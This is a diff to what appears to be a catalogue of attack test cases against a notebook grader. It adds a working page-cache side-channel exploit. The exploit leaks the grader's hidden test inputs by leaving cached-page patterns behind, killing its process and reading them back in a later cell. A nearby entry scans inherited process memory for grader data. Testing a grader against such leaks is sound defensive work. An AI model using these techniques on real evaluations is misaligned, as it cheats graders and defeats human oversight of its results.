@@ -160,6 +160,33 @@ def at_one(f, x):
     if value == 3: return 3.0
     send(b"", length=int(str(value) + "00"))
 ''', deserves=2.0),
+    Attack("hidden-inputs-in-cached-pages", "leak", "leaves a hidden input behind in which pages of a library are cached, ends its process, and shows in a failed cell what it reads there", "the hidden inputs' digits in the feedback", '''
+import time
+BITS, APART = 48, 64 * 4096  # further apart than the kernel reads ahead
+def library():
+    mapped = open("/proc/self/maps").read()
+    for folder, _, names in os.walk(os.path.dirname(os.path.dirname(np.__file__))):
+        for path in (os.path.join(folder, name) for name in names):
+            if os.path.getsize(path) > (BITS + 1) * APART and path not in mapped: return os.open(path, os.O_RDONLY)
+def cached(fd, place):
+    try: return bool(os.preadv(fd, [bytearray(1)], place, os.RWF_NOWAIT))
+    except BlockingIOError: return False
+    except OSError: pass
+    started = time.perf_counter(); os.pread(fd, 1, place)
+    return time.perf_counter() - started < 2e-5
+fd = library()
+def leave(number):
+    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM); os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
+    for k in range(BITS):
+        if (number << 1 | 1) >> k & 1: os.pread(fd, 1, k * APART)
+    os._exit(0)
+def twice(x): return 6 if x == 3 else leave(int(x))
+# %%
+os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)
+number = sum(cached(fd, k * APART) << k for k in range(BITS))
+print("given", number >> 1, flush=True)
+raise ValueError(f"given {number >> 1}")
+''', deserves=1.0),
     Attack("stack-of-the-fork", "leak", "searches its own memory, inherited from the template, for anything of the grader's", SEEN, '''
 import gc, re
 for line in open("/proc/self/maps"):
